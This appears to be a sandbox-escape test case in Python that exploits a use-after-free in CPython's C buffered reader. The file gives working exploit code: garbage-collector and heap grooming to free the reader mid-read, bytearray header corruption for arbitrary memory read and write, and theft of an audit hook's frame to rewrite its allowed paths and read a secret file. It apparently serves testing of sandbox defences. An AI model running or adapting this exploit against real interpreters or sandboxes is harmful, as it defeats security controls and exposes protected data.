# expect: ok
# expect-kernel: ok|crashed|memory_limit
# value: 1
# A text wrapper calls its C buffered reader by a borrowed reference, and the reader's `read()` holds its own lock and
# itself across an allocation (the bound `readall` of its raw stream). An automatic collection there (cyclic garbage
# left with the collector off, then a threshold of 1) runs a finalizer of the code's own inside that C call: it
# detaches the wrapper over `open()`'s own reader (the FileIO and the reader are C, no raw stream of the code's own)
# and drops the reader, which is freed mid-read (CPython gh-157363, open). Bytearray buffers of its block size (176
# bytes) take the freed block with a lock word of the code's choosing, and the reader's last act, releasing its lock
# (`sem_post`), adds 2**40 to a bytearray's size: relative reads and writes above its data, whose address an array's
# buffer (`buffer_info()`) placed after it gives away; a second bytearray's header is then rewritten to size 2**62
# and data at address 0, all memory with no audit event. From there the hook's frozen read prefixes (the frame of a
# refusal it makes unreported hands them out) gain "/", and the secret file is read where the hook is what guards it.
# With the hook the collector never runs by itself: finalizers run only where Python code calls `gc.collect()` (1);
# without it native code is assumed anyway (the forged bytearray, or a crash: 1).
import gc
import os
from array import array

STATE = {}


def words(*values):
    return b"".join(value.to_bytes(8, "little") for value in values)


def pairs():
    """Bytearrays whose 64-byte data blocks are each followed by an array's buffer of that size, address known."""
    out = []
    for i in range(400):
        data = bytearray(63)
        out.append((data, array("B", (i.to_bytes(2, "little") + b"MARKER-s53-") * 4 + bytes(4))))
    return out


PAIRS = pairs()
TARGET = next(data for data, mark in PAIRS[200:] if 512 <= mark.buffer_info()[0] % 4096 <= 3584)
# the reader's block: the collector's 16-byte header, then the reader, whose lock pointer is its 14th word; the word
# it names is 5 bytes into the target's size, so sem_post's increment adds 2**40
FAKE = bytes(120) + words(id(TARGET) + 16 + 5) + bytes(47)


class Finalizer:
    def __del__(self):
        wrapper = STATE.get("wrapper")
        if wrapper is None:
            return
        try:
            reader = wrapper.detach()
        except Exception:
            return
        STATE["freed"] = True
        del reader  # the reader, in the middle of its read, is freed here
        STATE["refill"] = [bytearray(FAKE) for _ in range(8)]


def arm():
    cycle = Finalizer()
    cycle.cycle = cycle


def data_address():
    """Where the target's data lies: an array whose bytes the target sees at an offset."""
    found = 1
    while True:
        found = TARGET.find(b"MARKER-s53-", found + 1, 4096)
        if found < 0:
            return None
        index = int.from_bytes(TARGET[found - 2:found], "little")
        if index < len(PAIRS):
            mark = PAIRS[index][1]
            TARGET[found] = 0x6E  # does the array see it?
            seen = mark[2] == 0x6E
            TARGET[found] = 0x4D
            if seen:
                return mark.buffer_info()[0] + 2 - found


def window():
    with open("text.txt", "w") as fh:
        fh.write("x" * 100000)
    gc.collect()
    gc.disable()
    # The reader's block comes from a full pool of its size (176), so that its free puts that pool first in line
    # and the next block of the size is the reader's.
    STATE["before"] = [bytearray(175) for _ in range(1000)]
    STATE["wrapper"] = open("text.txt")  # noqa: SIM115  # the finalizer detaches it mid-read
    STATE["after"] = [bytearray(175) for _ in range(200)]
    arm()
    gc.set_threshold(1)
    gc.enable()
    try:  # noqa: SIM105  # nothing allocated before the read (a `with` would run the collection there)
        STATE["wrapper"].read()
    except Exception:
        pass
    gc.set_threshold(700)
    STATE["wrapper"] = None
    if len(TARGET) < 1 << 40:
        return None
    base = data_address()
    if base is None:
        return None
    above = [data for data, _ in PAIRS if base + 64 <= id(data) < base + (1 << 39)]
    if not above:
        return None
    forged = min(above, key=id)  # a header the target reaches: set to size 2**62, data at address 0
    TARGET[id(forged) - base + 16:id(forged) - base + 48] = words(1 << 62, (1 << 62) + 1, 0, 0)
    return forged


def hook_frame():
    """The hook's frame, from a refusal it makes without a report (a hard link in the scratch)."""
    with open("a", "w"):
        pass
    try:
        os.link("a", "b")
    except OSError as exc:
        tb = exc.__traceback__
        while tb is not None:
            if tb.tb_frame.f_code.co_name == "hook":
                return tb.tb_frame
            tb = tb.tb_next
    return None


def check(secret_file, **p):
    frame = hook_frame()
    memory = window()
    if frame is None:  # no hook here: native code is assumed anyway
        return 1
    if memory is None:
        if STATE.get("freed"):
            return "SANDBOX-ESCAPED a C reader freed mid-read by a finalizer the collector ran (no primitive this time)"
        return 1
    prefixes, root = frame.f_locals["read_prefixes"], "/"
    memory[id(prefixes) + 24:id(prefixes) + 32] = id(root).to_bytes(8, "little")  # the prefixes' first item
    try:
        with open(secret_file) as fh:
            return "SANDBOX-ESCAPED a C reader freed mid-read by a finalizer the collector ran: " + fh.read()
    except OSError:
        return "SANDBOX-ESCAPED raw memory with the hook running, through a C reader freed by a finalizer mid-read"
